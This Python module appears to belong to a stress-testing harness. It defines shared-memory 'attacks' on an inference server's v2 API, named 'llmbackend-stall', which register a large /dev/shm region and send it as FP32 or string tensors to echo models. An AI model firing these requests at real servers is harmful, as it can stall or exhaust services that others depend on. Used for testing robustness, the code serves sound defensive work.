"""Tensors in shared memory, which are as large as the region."""

from __future__ import annotations

import json
from collections.abc import Callable
from functools import partial
from pathlib import Path

from .attack import Attack, HttpSent, Sent

_NAME = "llmbackend-stall"
_FILE = Path("/dev/shm", _NAME)


def _region(datatype: str, shape: Callable[[int], list[int]]) -> Callable[[int], list[Sent]]:
    def make(size: int) -> list[Sent]:
        size -= size % 4
        _FILE.write_bytes(bytes(size))
        registration = {"key": f"/{_NAME}", "offset": 0, "byte_size": size}
        place = {"shared_memory_region": _NAME, "shared_memory_byte_size": size}
        tensor = {"name": "IN", "datatype": datatype, "shape": shape(size), "parameters": place}
        body = json.dumps({"inputs": [tensor], "parameters": {"binary_data_output": True}})
        control = f"/v2/systemsharedmemory/region/{_NAME}"
        return [
            HttpSent(f"{control}/register", json.dumps(registration).encode()),
            HttpSent(f"/v2/models/echo_{datatype}/infer", body.encode()),
            HttpSent(f"{control}/unregister", b"", closes=partial(_FILE.unlink, missing_ok=True)),
        ]

    return make


MEMORY_ATTACKS = (
    Attack("shared memory FP32", _region("FP32", lambda size: [size // 4])),
    Attack("shared memory empty strings", _region("BYTES", lambda size: [1])),
    Attack("shared memory as many strings", _region("BYTES", lambda size: [size // 4])),
)
